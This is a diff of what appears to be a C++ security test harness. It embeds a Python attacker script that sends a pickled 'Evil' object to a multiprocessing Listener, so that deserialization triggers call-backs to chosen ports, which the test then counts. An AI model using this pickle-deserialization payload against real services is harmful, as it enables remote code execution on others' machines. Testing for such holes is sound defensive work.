@@ -30,7 +30,7 @@ with Listener(("10.99.0.2", 50778), backlog=64) as listener:
 )";
 
 // argv: ports to be called back at; nobody listens there, a refused SYN is a call-back all the same.
-constexpr char kAttacker[] = R"(
+constexpr char kAttacker[] = R"py(
 import pickle, socket, sys
 from multiprocessing.connection import Connection
 class Evil:
@@ -45,7 +45,7 @@ for port in sys.argv[1:]:
         peer.send_bytes(pickle.dumps(Evil(port)))
         peer.recv_bytes()
         peer.close()
-)";
+)py";
 
 /// Destination ports of the call-backs told so far. The last line may still be being written.
 std::vector<uint64_t> called_back(const std::string& eve) {
